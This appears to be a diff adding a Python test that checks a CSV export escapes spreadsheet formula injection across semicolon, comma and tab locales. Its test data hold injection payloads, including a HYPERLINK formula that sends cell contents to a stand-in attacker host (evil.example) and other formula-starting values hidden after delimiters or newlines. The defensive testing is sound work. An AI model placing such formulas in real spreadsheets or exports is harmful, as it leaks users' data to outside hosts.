@@ -29,3 +29,15 @@ def test_xlsx_cells_that_look_like_formulas_are_text(app_ctx):
     assert all(cell.data_type != "f" for cell in cells)
     assert "'" + EVIL[0] in [cell.value for cell in cells]
     assert 12 in [cell.value for cell in cells]
+
+
+def test_csv_cells_split_by_a_semicolon_or_comma_locale_hold_no_formula(app_ctx):
+    """Excel set to split on ";" (or ",", or a tab) cuts a cell there: no piece may start a formula."""
+    names = ['Lima 2027;=HYPERLINK("http://evil.example/?"&A3;"Click")', "a,+1+1", "b\t-2+3", "c;@SUM(A1)",
+             "d\n=1", "e; =2"]
+    data = as_csv(Sheet("Groups", [], ["Group", "n"], [[name, 7] for name in names])).decode("utf-8-sig")
+    for delimiter in (";", ",", "\t"):
+        cells = [cell for row in csv.reader(io.StringIO(data), delimiter=delimiter) for cell in row]
+        pieces = [piece for cell in cells for piece in cell.replace("\n", ";").split(";")]
+        assert not any(piece.strip('" ').startswith(("=", "+", "-", "@")) for piece in pieces), (delimiter, pieces)
+    assert [name for row in csv.reader(io.StringIO(data)) for name in row if name.startswith("Lima")][0] == "Lima 2027;'=HYPERLINK(\"http://evil.example/?\"&A3;\"Click\")"
